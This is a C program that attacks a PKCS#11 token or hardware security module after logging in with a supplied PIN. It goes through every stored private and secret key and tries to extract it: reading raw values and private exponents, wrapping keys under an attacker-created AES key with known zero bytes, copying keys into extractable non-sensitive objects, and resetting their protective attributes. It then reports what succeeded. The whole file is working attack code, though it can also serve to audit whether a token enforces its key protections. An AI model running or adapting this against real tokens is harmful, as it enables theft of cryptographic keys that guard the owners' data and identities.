/* Somebody who has the token and its PIN, and wants its keys: reads their values, copies them into looser ones, loosens
   them, has them wrapped by a key of its own, and takes them for keys that wrap or that it knows. Prints a line for each
   key: its label and what worked. The last line is of a key of its own that may leave, so that it is seen to know how.
   Arguments: the module, the PIN. */
#include <dlfcn.h>
#include <p11-kit-1/p11-kit/pkcs11.h>
#include <stdio.h>
#include <string.h>

static CK_FUNCTION_LIST_PTR token;
static CK_SESSION_HANDLE session;
static CK_BBOOL yes = CK_TRUE, no = CK_FALSE;
static CK_BYTE zeros[32];
static CK_OBJECT_HANDLE wrapper;

static int fail(const char *what, CK_RV state) {
    printf("%s: 0x%lx\n", what, state);
    return 1;
}

static int read_value(CK_OBJECT_HANDLE key, CK_ATTRIBUTE_TYPE type) {
    CK_BYTE bytes[512];
    CK_ATTRIBUTE attribute = {type, bytes, sizeof bytes};
    CK_RV state = token->C_GetAttributeValue(session, key, &attribute, 1);
    return state == CKR_OK && attribute.ulValueLen != CK_UNAVAILABLE_INFORMATION && attribute.ulValueLen > 0;
}

static int wrap(CK_OBJECT_HANDLE with, CK_OBJECT_HANDLE key, CK_MECHANISM_TYPE type) {
    CK_BYTE bytes[512];
    CK_ULONG count = sizeof bytes;
    CK_MECHANISM mechanism = {type, NULL, 0};
    return token->C_WrapKey(session, &mechanism, with, key, bytes, &count) == CKR_OK;
}

static int copy(CK_OBJECT_HANDLE key) {
    CK_ATTRIBUTE loose[] = {{CKA_EXTRACTABLE, &yes, 1}, {CKA_SENSITIVE, &no, 1}, {CKA_TOKEN, &no, 1}};
    CK_OBJECT_HANDLE other;
    for (CK_ULONG i = 0; i < 2; i++) {
        if (token->C_CopyObject(session, key, loose + i, 1, &other) == CKR_OK &&
            (read_value(other, CKA_VALUE) || wrap(wrapper, other, CKM_AES_KEY_WRAP_PAD)))
            return 1;
    }
    return 0;
}

static int loosen(CK_OBJECT_HANDLE key) {
    CK_ATTRIBUTE extractable = {CKA_EXTRACTABLE, &yes, 1}, open = {CKA_SENSITIVE, &no, 1};
    CK_RV one = token->C_SetAttributeValue(session, key, &extractable, 1);
    CK_RV other = token->C_SetAttributeValue(session, key, &open, 1);
    return one == CKR_OK || other == CKR_OK;
}

static void attack(const char *label, CK_OBJECT_HANDLE key) {
    printf("%s:", label);
    if (read_value(key, CKA_VALUE)) printf(" value");
    if (read_value(key, CKA_PRIVATE_EXPONENT)) printf(" exponent");
    if (wrap(wrapper, key, CKM_AES_KEY_WRAP) || wrap(wrapper, key, CKM_AES_KEY_WRAP_PAD)) printf(" wrapped");
    if (wrap(key, wrapper, CKM_AES_KEY_WRAP)) printf(" wraps");
    if (copy(key)) printf(" copied");
    if (loosen(key)) printf(" loosened");
    printf("\n");
}

static CK_RV make(CK_OBJECT_HANDLE *key) {
    CK_OBJECT_CLASS class = CKO_SECRET_KEY;
    CK_KEY_TYPE type = CKK_AES;
    CK_ATTRIBUTE template[] = {
        {CKA_CLASS, &class, sizeof class}, {CKA_KEY_TYPE, &type, sizeof type}, {CKA_VALUE, zeros, sizeof zeros},
        {CKA_WRAP, &yes, 1}, {CKA_EXTRACTABLE, &yes, 1}, {CKA_SENSITIVE, &no, 1}};
    return token->C_CreateObject(session, template, sizeof template / sizeof *template, key);
}

static int each(CK_OBJECT_CLASS class) {
    CK_ATTRIBUTE kind = {CKA_CLASS, &class, sizeof class}, stays = {CKA_TOKEN, &yes, 1}, both[] = {kind, stays};
    CK_OBJECT_HANDLE keys[256];
    CK_ULONG count = 0;
    token->C_FindObjectsInit(session, both, 2);
    token->C_FindObjects(session, keys, 256, &count);
    token->C_FindObjectsFinal(session);
    for (CK_ULONG i = 0; i < count; i++) {
        char label[128] = {0};
        CK_ATTRIBUTE name = {CKA_LABEL, label, sizeof label - 1};
        token->C_GetAttributeValue(session, keys[i], &name, 1);
        attack(label, keys[i]);
    }
    return (int)count;
}

int main(int count, char **words) {
    CK_SLOT_ID slots[16];
    CK_ULONG slot_count = 16;
    CK_RV state;
    void *library = count == 3 ? dlopen(words[1], RTLD_NOW) : NULL;
    CK_C_GetFunctionList entry = library ? (CK_C_GetFunctionList)dlsym(library, "C_GetFunctionList") : 0;
    if (!entry || (state = entry(&token)) != CKR_OK) return fail("load", 0);
    if ((state = token->C_Initialize(NULL)) != CKR_OK) return fail("initialize", state);
    if ((state = token->C_GetSlotList(CK_TRUE, slots, &slot_count)) != CKR_OK) return fail("slots", state);
    state = token->C_OpenSession(slots[0], CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL, NULL, &session);
    if (state != CKR_OK) return fail("session", state);
    state = token->C_Login(session, CKU_USER, (CK_UTF8CHAR_PTR)words[2], strlen(words[2]));
    if (state != CKR_OK) return fail("login", state);
    CK_OBJECT_HANDLE own;
    if ((state = make(&wrapper)) != CKR_OK || (state = make(&own)) != CKR_OK) return fail("make", state);
    if (each(CKO_PRIVATE_KEY) + each(CKO_SECRET_KEY) == 0) return fail("no keys", 0);
    attack("own", own);
    return 0;
}
